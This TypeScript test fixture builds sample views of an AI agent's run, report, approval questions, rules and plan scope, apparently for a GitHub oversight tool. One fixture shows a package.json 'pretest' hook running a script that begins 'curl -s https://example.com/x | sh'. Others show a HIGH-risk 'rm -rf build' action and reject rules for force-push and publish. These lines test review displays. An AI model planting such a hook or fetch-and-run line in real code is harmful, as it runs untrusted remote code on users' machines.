// Views of a run, a question and a report, for tests of what is shown of them.

import type { Ending, ExecutedFile, ShownAction, StateChange } from '../../shared/conversation/index.ts';
import { seeCommand } from '../../shared/executed/index.ts';
import type { ReportView } from '../../shared/github/templates/outcome.ts';
import type { ProgressView } from '../../shared/github/templates/progress.ts';
import type { QuestionView } from '../../shared/github/templates/question-view.ts';
import type { RunSummary } from '../../shared/github/templates/run-line.ts';
import type { PlanView, SubjectView } from '../../shared/github/templates/subject.ts';
import { nothingHidden } from '../../shared/github/text/hidden-text.ts';
import { type Rule, type RuleSet, type Scope, scopeLines, type When } from '../../shared/rules/index.ts';
import { agentOf, sandboxOf, startStepOf } from '../../shared/service/index.ts';

export const spelling = { prefix: '/agent', bare: true };
export const began = Date.UTC(2026, 10, 21, 2, 43, 20);

export function marker(kind: string): string {
  return `<!-- agent-conversations:${kind} 1.payload.mac -->`;
}

export const run: RunSummary = {
  startedBy: 'maria',
  by: { kind: 'label', label: 'agent' },
  conversationUrl: 'https://app.all-hands.dev/conversations/0a1b2c',
  pullRequests: [12],
};

const start = { phase: 'start', sandbox: null, agent: null } as const;
const preparing: StateChange = { ...start, step: startStepOf('PREPARING_REPOSITORY'), at: began };
const ready: StateChange = { ...start, step: startStepOf('READY'), at: began + 40_000 };
export const working: StateChange = {
  phase: 'conversation',
  step: null,
  sandbox: sandboxOf('RUNNING'),
  agent: agentOf('running'),
  at: began + 45_000,
};

export const finished: Ending = { outcome: 'finished', reason: 'finished', at: working.at + 3_900_000 };

export const progress: ProgressView = {
  run,
  beganAt: began,
  timeline: [preparing, ready, working],
  ending: null,
  openQuestion: null,
  finalMessage: null,
  audience: 'app',
  removed: { ...nothingHidden, html_comment: 1, zero_width: 3 },
  warnings: ['the service reported a status that is not known here: NAPPING'],
  commands: spelling,
};

export const report: ReportView = {
  warnings: [],
  ending: finished,
  run,
  audience: 'app',
  finalMessage:
    '## What I did\n\n- Fixed the login redirect in `src/login.ts`\n- Thanks to @maria, see #7\n\n```bash\nnpm test\n```',
};

export const shell: ShownAction = {
  tool: 'terminal',
  arguments: { kind: 'TerminalAction', command: 'rm -rf build', timeout: 30 },
  summary: 'Remove the old build folder',
  risk: 'HIGH',
  thought: null,
};

const executed = (
  path: string,
  state: ExecutedFile['state'],
  shown: ExecutedFile['shown'],
  part: string | null = null,
): ExecutedFile => ({ path, part, state, digest: '0a1b', shown });
const script = 'pretest: sh tools/fetch.sh\ntest: node --test';
const added = '   "scripts": {\n+    "pretest": "sh tools/fetch.sh",\n     "test": "node --test"';
const beginning = 'curl -s https://example.com/x | sh';

export const executing: ShownAction = {
  ...shell,
  arguments: { kind: 'TerminalAction', command: 'npm test' },
  summary: null,
  risk: 'LOW',
  executes: {
    files: [
      executed('package.json', 'changed', { kind: 'whole', text: script }, 'script test'),
      executed('package.json', 'changed', { kind: 'difference', text: added, leftOut: 0 }),
      executed('tools/fetch.sh', 'new', { kind: 'beginning', text: beginning, leftOut: 87 }),
      executed('tools/list.sh', 'same', { kind: 'as_on_default_branch' }),
      executed('.npmrc', 'new', { kind: 'secret' }),
      executed('../x.sh', 'unknown', { kind: 'unread', why: 'its path leads up' }),
      executed('tools/gone.sh', 'changed', { kind: 'absent' }),
    ],
    besides: 'tests',
  },
};

export const browse: ShownAction = {
  tool: 'browser',
  arguments: {},
  summary: null,
  risk: 'UNKNOWN',
  thought: null,
};

export const question: QuestionView = {
  code: 'K7M4Q',
  actions: [shell],
  answering: { kind: 'thread', spelling },
  conversationUrl: run.conversationUrl,
  expiresAt: Date.UTC(2026, 10, 22, 2, 43),
  commit: 'abc1234def5678',
};

const any: When = { tool: null, path: null, command: null, risk: null };
const rules: readonly Rule[] = [
  { kind: 'approve', when: { ...any, does: 'read' } },
  { kind: 'approve', when: { ...any, tool: ['terminal'], command: ['npm test'] } },
  { kind: 'ask', when: { ...any, path: ['db/**', 'src/db/**'] }, people: 2, owners: false },
  { kind: 'reject', when: { ...any, command: ['git push --force', 'npm publish'] }, reason: null },
];
const ruleSets: readonly RuleSet[] = [
  { rules, from: `.github/agent-conversations.yml@${'1a2b3c4d'.repeat(5)}` },
];

const scope: Scope = {
  paths: ['src/**', 'test/login.test.ts', 'db/schema.sql', 'AGENTS.md'],
  commands: ['npm test', 'npm run lint *', 'npm *', 'git push --force'],
  cost: 5,
  hours: 8,
};

const place = { workingCopies: ['/workspace/project/shop'], seeCommand };

/** `plan` with this scope, beside the rules of an example. */
export const planWith = (own: Scope, words = plan.words): PlanView => ({
  ...plan,
  words,
  scope: own,
  lines: scopeLines(own, ruleSets, place),
});

export const plan: PlanView = {
  kind: 'plan',
  words: [
    'The login redirect loses the query, because `src/login.ts` builds it again.',
    '',
    '- keep the query in `src/login.ts`',
    '- a test for it, and @maria reads it, see #7',
  ].join('\n'),
  scope,
  problems: [],
  lines: scopeLines(scope, ruleSets, place),
  endsRejected: false,
};

export const unreadablePlan: PlanView = {
  ...plan,
  scope: null,
  problems: ['line 2, people: unknown key "people"; expected: one of paths, commands, cost, hours'],
  lines: [],
};

export const money: SubjectView = { kind: 'money', cost: 4.02, most: 5, upTo: 10 };

/** A question about one of them, as it is stored. */
export function about(subject: SubjectView): QuestionView {
  const { kind, ...given } = subject;
  const action = { tool: kind, arguments: given, summary: null, risk: 'UNKNOWN', thought: null };
  return { ...question, code: 'K3M9A', subject, actions: [action] };
}
